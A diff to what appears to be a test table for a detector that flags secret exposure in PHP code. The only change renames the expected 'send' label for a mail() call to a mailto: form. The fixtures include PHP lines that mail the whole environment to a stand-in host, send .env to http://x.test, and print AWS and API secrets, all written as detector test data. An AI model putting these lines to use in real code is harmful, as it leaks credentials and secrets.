@@ -227,7 +227,7 @@ const effects: readonly (readonly [code: string, ...found: string[]])[] = [
     "read .env",
     "send http://x.test [file] .env",
   ],
-  ['mail("a@x.test", "s", json_encode($_ENV));', "send a@x.test [secret]"],
+  ['mail("a@x.test", "s", json_encode($_ENV));', "send mailto:a@x.test [secret]"],
   ["print_r($_ENV); var_dump($_SERVER);", "secret environment"],
   ['echo getenv("AWS_SECRET_ACCESS_KEY"), $_ENV["API_TOKEN"];', "secret environment"],
   ["phpinfo(); print_r(getenv());", "secret environment"],
